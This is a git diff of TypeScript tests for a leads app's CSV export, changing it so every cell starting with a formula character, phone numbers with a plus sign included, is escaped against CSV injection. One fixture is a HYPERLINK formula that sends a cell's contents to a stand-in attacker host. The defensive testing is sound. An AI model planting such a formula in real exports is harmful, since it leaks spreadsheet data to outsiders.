@@ -3,9 +3,9 @@ import { toCsv } from '../../src/modules/leads/index.js';
 import { auth, createAgent, registerUser, startTestApp, type TestApp } from '../helpers/app.js';
 
 /**
- * CSV exports (issue 22.6): a cell a spreadsheet would run as a formula (starting with `=`, `+`,
- * `-`, `@`, a tab or a CR; OWASP "CSV Injection") gets a leading apostrophe, but a phone number
- * such as `+31 20 123 4567` is exported as it is; fields are quoted per RFC 4180.
+ * CSV exports (issue 22.6, issue 31 abuse 1): every cell starting with `=`, `+`, `-`, `@`, a tab
+ * or a CR (OWASP "CSV Injection") gets a leading apostrophe, phone numbers such as
+ * `+1-555-0100` included (a spreadsheet computes those: -654); fields are quoted per RFC 4180.
  */
 
 type Json = Record<string, any>;
@@ -59,7 +59,7 @@ async function csv(url: string): Promise<{ text: string; rows: string[][] }> {
 }
 
 describe('GET /api/chatbot-leads/{id}/export.csv', () => {
-  it('keeps phone numbers as they are, escapes what would run as a formula, quotes per RFC 4180', async () => {
+  it('escapes every cell a spreadsheet would read as a formula, phone numbers too; quotes per RFC 4180', async () => {
     const agent = await createAgent(t.app, token);
     const leads: Array<{ name: string; phone: string }> = [
       { name: 'Anna de Vries', phone: '+31 20 123 4567' },
@@ -82,13 +82,13 @@ describe('GET /api/chatbot-leads/{id}/export.csv', () => {
     const cells = new Map(rows.slice(1).map((r) => [r[0], r]));
     const row = (i: number) => cells.get(made[i]!.id)!;
 
-    // phone numbers, as typed
-    expect(row(0).slice(1, 3)).toEqual(['Anna de Vries', '+31 20 123 4567']);
-    expect(row(1)[2]).toBe('+1-555-0100');
-    expect(row(2)[2]).toBe('+44 (0)20 7946 0958');
+    // phone numbers starting with + are arithmetic to a spreadsheet: escaped like any formula
+    expect(row(0).slice(1, 3)).toEqual(['Anna de Vries', "'+31 20 123 4567"]);
+    expect(row(1)[2]).toBe("'+1-555-0100");
+    expect(row(2)[2]).toBe("'+44 (0)20 7946 0958");
     expect(row(3)[2]).toBe('020 123 4567');
-    expect(row(5)[2]).toBe('+31 6 1234 5678');
-    expect(text).toContain(',+31 20 123 4567,');
+    expect(row(5)[2]).toBe("'+31 6 1234 5678");
+    expect(text).toContain(",'+31 20 123 4567,");
     // formulas get the apostrophe (and a field with quotes or commas is quoted, quotes doubled)
     expect(row(4)[1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
     expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",0612345678,`);
@@ -120,7 +120,7 @@ describe('GET /api/leads/export.csv', () => {
     const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
     expect(byId.get(phone.id)!.slice(1, 5)).toEqual([
       'Erik',
-      '+31 20 123 4567',
+      "'+31 20 123 4567",
       'New',
       'line one\r\nline two, "quoted"',
     ]);
@@ -135,11 +135,8 @@ describe('toCsv', () => {
       .split('\r\n')[1];
 
   it.each([
-    ['+31 20 123 4567', '+31 20 123 4567'],
-    ['+1-555-0100', '+1-555-0100'],
-    ['+1 (555) 010.0100', '+1 (555) 010.0100'],
-    ['+49/30/1234567', '+49/30/1234567'],
     ['555-0100', '555-0100'],
+    ['0612345678', '0612345678'],
     ['plain', 'plain'],
     ['', ''],
   ])('%j is exported as it is', (value, expected) => {
@@ -148,6 +145,11 @@ describe('toCsv', () => {
 
   it.each([
     ['=HYPERLINK("http://x")', `"'=HYPERLINK(""http://x"")"`],
+    ['=1+1', "'=1+1"],
+    ['+1-555-0100', "'+1-555-0100"], // a spreadsheet computes it: -654
+    ['+31 20 123 4567', "'+31 20 123 4567"],
+    ['+11-1', "'+11-1"],
+    ['-1', "'-1"],
     ['@SUM(1)', "'@SUM(1)"],
     ['-2+3', "'-2+3"],
     ['+1', "'+1"], // too short to be a phone number
